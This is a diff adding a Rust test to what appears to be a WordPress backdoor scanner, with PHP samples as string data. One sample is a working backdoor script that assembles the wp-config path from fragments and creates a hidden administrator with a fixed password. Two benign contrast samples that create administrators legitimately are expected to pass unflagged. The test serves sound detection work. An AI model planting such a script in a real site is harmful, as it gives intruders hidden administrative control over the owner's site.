@@ -95,3 +95,20 @@ fn white_label_plugins_that_hide_other_plugins_are_not_reported() {
         if ($file == plugin_basename(__FILE__)) { $x = 1; } unset(self::$notices[$k]); unset($links['settings']);"#;
     assert_eq!(found(own_text), []);
 }
+
+#[test]
+fn a_script_loading_wordpress_to_make_an_administrator_is_a_backdoor() {
+    // fresh67's `add.php`: the settings file's name joined from pieces, then a written password.
+    let dropped = r#"<?php $config = "../"."wp"."-"."config".".php"; include_once($config);
+        $id = wp_insert_user(array('user_login' => 'administrator', 'user_pass' => 'Secret1337',
+        'user_email' => 'x@example.com', 'role' => 'administrator')); echo "User added";"#;
+    assert_eq!(found(dropped), [(Why::HiddenAdministrator, Danger::High)]);
+    // A plugin's own installer makes an administrator inside WordPress, without loading it.
+    let inside = r#"<?php function demo_setup() { wp_insert_user(array('user_login' => 'demo',
+        'user_pass' => 'demo', 'role' => 'administrator')); } register_activation_hook(__FILE__, 'demo_setup');"#;
+    assert!(found(inside).is_empty());
+    // A tool that loads WordPress and makes a user whose password it is given.
+    let given = r#"<?php require '../wp-load.php'; wp_insert_user(array('user_login' => $argv[1],
+        'user_pass' => $argv[2], 'role' => 'administrator'));"#;
+    assert!(found(given).is_empty());
+}
